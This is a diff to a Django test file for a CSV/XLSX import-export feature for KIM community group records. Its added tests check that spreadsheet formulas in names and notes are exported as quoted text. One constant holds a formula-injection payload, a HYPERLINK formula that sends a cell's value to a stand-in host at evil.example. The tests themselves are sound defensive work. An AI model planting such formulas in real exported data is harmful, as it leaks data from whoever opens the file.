@@ -1,7 +1,10 @@
 """Staff import KIM lists from CSV and XLSX in the admin, and export them back."""
 
+import csv
+import io
 from datetime import date
 
+import openpyxl
 import pytest
 import tablib
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -137,6 +140,7 @@ def test_importing_an_export_changes_nothing(kotim, fmt):
         notes='Catatan, dengan koma; dan "kutip"',
     )
     make_kim(desa=parenggean.desa.last(), name="KIM Tidur", inactive_since=date(2022, 5, 1))
+    make_kim(desa=parenggean.desa.last(), name=FORMULA, notes="'=sudah diberi kutip", address="-")
     before = snapshot()
     exported = KimResource().export().export(fmt)
     dataset = tablib.Dataset().load(exported, format=fmt)
@@ -173,3 +177,27 @@ def test_importing_a_pending_proposal_verifies_it(kotim):
     kim = Kim.objects.get(name="KIM Usulan")
     assert kim.review_status == Kim.Review.VERIFIED
     assert kim.verified_at is not None
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&O2,"Klik di sini")'
+
+
+def export(client, fmt):
+    columns = {f"kimresource_{column}": "on" for column in KimResource().get_export_headers()}
+    return client.post("/admin/registry/kim/export/", {"format": fmt, "resource": "0", **columns})
+
+
+def test_a_kim_name_written_as_a_formula_is_exported_as_text_in_csv(staff_client, kotim):
+    make_kim(desa=kotim.kecamatan.first().desa.first(), name=FORMULA, notes="@SUM(1+1)", address="Jl. Baru")
+    response = export(staff_client, "0")
+    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert (row["nama"], row["catatan"], row["alamat"]) == ("'" + FORMULA, "'@SUM(1+1)", "Jl. Baru")
+
+
+def test_a_kim_name_written_as_a_formula_is_exported_as_text_in_xlsx(staff_client, kotim):
+    make_kim(desa=kotim.kecamatan.first().desa.first(), name=FORMULA)
+    sheet = openpyxl.load_workbook(io.BytesIO(export(staff_client, "1").content)).active
+    headers = [cell.value for cell in sheet[1]]
+    cell = sheet.cell(row=2, column=headers.index("nama") + 1)
+    assert cell.data_type == "s"
+    assert cell.value == "'" + FORMULA
